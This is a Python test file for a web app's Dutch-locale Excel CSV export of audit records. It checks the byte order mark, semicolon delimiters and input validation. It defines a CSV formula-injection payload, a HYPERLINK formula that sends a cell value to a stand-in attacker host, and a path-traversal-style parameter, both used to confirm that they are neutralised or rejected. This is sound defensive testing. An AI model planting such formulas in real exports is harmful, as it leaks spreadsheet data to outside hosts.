"""The CSV for Dutch-locale Excel (issue 16, "Dutch spreadsheets"): a byte order mark, `;`
between cells, the same cells as the standard export, formulas still neutralised."""

from __future__ import annotations

import csv
import io

from tests.ui.conftest import audit_row, policy
from tests.ui.test_local_time import AMSTERDAM_29, CUTOFF

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _trail() -> list[dict]:
    cdrs = policy("cdrs")
    return [
        audit_row(cdrs, AMSTERDAM_29, cutoff=CUTOFF, run_id=FORMULA, title="Calls; 1,5 a day"),
    ]


def test_the_excel_variant_has_a_bom_semicolons_and_the_same_cells(app_client):
    client = app_client(_trail())
    params = {"policy": "cdrs", "start": "2026-11-29", "end": "2026-11-29"}
    excel = client.get("/export-excel.csv", params=params)
    standard = client.get("/export.csv", params=params)
    assert excel.status_code == 200
    assert excel.headers["content-type"] == "text/csv; charset=utf-8"
    assert excel.headers["content-disposition"] == (
        'attachment; filename="retention-audit-cdrs-2026-11-29-2026-11-29-excel.csv"'
    )
    assert excel.content.startswith(b"\xef\xbb\xbfid;dag_id;run_id;")
    assert not standard.content.startswith(b"\xef\xbb\xbf")
    text = excel.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows == list(csv.reader(io.StringIO(standard.text, newline="")))
    (header, cells) = rows
    row = dict(zip(header, cells, strict=True))
    assert row["run_id"] == "'" + FORMULA  # neutralised, as in the standard export
    assert row["title"] == "Calls; 1,5 a day"  # quoted by the writer: one cell, not two
    assert '"Calls; 1,5 a day"' in text
    assert (row["deleted"], row["logical_date_local"]) == ("100", "2026-11-29T00:00:00+01:00")
    assert text.endswith("\r\n") and text.count("\r\n") == 2


def test_the_excel_variant_takes_the_same_parameters(app_client):
    client = app_client(_trail())
    # A day without runs: the header alone.
    header = client.get("/export.csv", params={"start": "2026-11-30"}).content
    excel = client.get("/export-excel.csv", params={"start": "2026-11-30"}).content
    assert excel == b"\xef\xbb\xbf" + header.replace(b",", b";")
    assert header.count(b"\r\n") == 1
    bad = client.get("/export-excel.csv", params={"policy": "../x"})
    assert bad.status_code == 422 and bad.json()["detail"].startswith("policy: not a")


def test_the_pages_link_the_excel_variant(app_client):
    client = app_client(_trail())
    assert 'href="/export-excel.csv?policy=cdrs"' in client.get("/policies/cdrs").text
    assert 'formaction="/export-excel.csv"' in client.get("/").text
